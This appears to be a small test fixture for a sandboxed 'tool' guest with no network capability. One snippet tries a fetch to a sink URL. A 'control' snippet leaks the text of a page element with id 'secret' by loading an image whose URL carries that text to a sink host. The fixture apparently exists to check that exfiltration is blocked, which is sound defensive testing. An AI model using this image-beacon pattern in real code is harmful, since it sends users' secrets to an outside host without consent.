//! guest = "tool"
//! promise = "tool-network"
//! capabilities = []
await btcp.network.fetch(args.sink + "/x").catch(() => {});
return "tried";
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
